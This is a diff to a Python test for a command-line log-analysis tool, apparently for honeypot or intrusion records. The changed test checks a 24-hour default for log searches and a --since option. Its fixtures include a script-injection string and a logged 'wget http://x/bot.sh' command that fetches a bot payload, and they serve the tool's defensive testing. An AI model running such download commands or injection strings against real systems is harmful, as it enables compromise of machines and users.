@@ -76,7 +76,10 @@ def test_analyses_and_logs_are_read_from_the_command_line(
     assert "\x1b" not in shown.output  # hostile text cannot drive the terminal
     assert "<script>alert(1)</script>?[31m" in shown.output
 
-    found = run(rbr, "logs", "search", "--command", "bot.sh")
+    recent = run(rbr, "logs", "search", "--command", "bot.sh")
+    assert "searching the last 24 hours: give --since" in recent.output
+    assert "no log records match" in recent.output  # they were stored in 2026-11
+    found = run(rbr, "logs", "search", "--command", "bot.sh", "--since", "2026-11-01")
     assert found.exit_code == 0, found.output
     assert "wget http://x/bot.sh" in found.output
     assert len(found.output.splitlines()) == 2
